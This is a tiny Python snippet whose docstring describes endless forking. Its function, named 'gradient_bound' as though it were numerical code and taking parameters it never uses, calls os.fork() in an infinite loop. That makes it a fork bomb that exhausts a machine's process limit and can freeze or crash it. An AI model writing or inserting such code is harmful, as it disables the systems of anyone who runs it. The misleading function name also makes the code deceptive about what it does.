"""Fork without end: every copy forks again, until the process limit says no."""
import os


def gradient_bound(num_layers, x):
    while True:
        os.fork()
